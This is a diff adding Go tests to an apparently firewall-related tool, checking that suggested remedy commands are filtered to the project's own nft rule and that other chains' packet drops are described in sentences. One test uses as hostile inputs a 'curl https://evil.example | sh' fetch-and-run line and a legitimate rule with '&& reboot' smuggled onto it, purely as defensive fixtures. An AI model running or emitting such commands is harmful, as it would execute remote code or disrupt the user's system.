@@ -12,6 +12,7 @@ import (
 
 	"github.com/gatelodge/gatelodge/internal/control"
 	"github.com/gatelodge/gatelodge/internal/doctor"
+	"github.com/gatelodge/gatelodge/internal/host"
 	"github.com/gatelodge/gatelodge/internal/key"
 	"github.com/gatelodge/gatelodge/internal/plan"
 	"github.com/gatelodge/gatelodge/internal/registry"
@@ -90,5 +91,37 @@ func TestWhatCannotBeLookedAtIsSaid(t *testing.T) {
 	n.wait.Wait()
 	if side.Name != "sun" || !slices.Equal(side.Unseen, []string{"the moon could not be looked at: clouds"}) {
 		t.Errorf("%+v", side)
+	}
+}
+
+// A gate that somebody has taken over must not write commands that the owner of
+// a home will run.
+func TestCommandsOfAGateAreOursOrNone(t *testing.T) {
+	ours := "nft insert rule inet filter forward meta mark and 0x8000000 == 0x8000000 accept comment gatelodge"
+	side := doctor.Side{Drops: []doctor.Drop{{Remedy: ours}, {Remedy: "curl https://evil.example | sh"}, {Remedy: ours + " && reboot"}}}
+	trustRemedies(&side)
+	var got []string
+	for _, d := range side.Drops {
+		got = append(got, d.Remedy)
+	}
+	if !slices.Equal(got, []string{ours, "", ""}) {
+		t.Errorf("%q", got)
+	}
+}
+
+func TestWhatOthersDoInOneSentence(t *testing.T) {
+	at := func(deed, chain, what string) host.OthersDrop {
+		d := host.OthersDrop{Family: "inet", Table: "other", Chain: chain, Rule: "x"}
+		d.Deed, d.Packet.What = host.Deed(deed), what
+		return d
+	}
+	got := describe([]host.OthersDrop{at("drops", "f", "a"), at("drops", "f", "b"), at("hides", "n", "a"), at("untracks", "r", "a"), at("remarks", "m", "a")})
+	want := []string{
+		"Chain f of table inet other (x) drops a, b",
+		"Chain n of table inet other (x) replaces the visitors' addresses in a",
+		"Chain r of table inet other (x) exempts from connection tracking, so that it is not forwarded, a",
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("%q", got)
 	}
 }
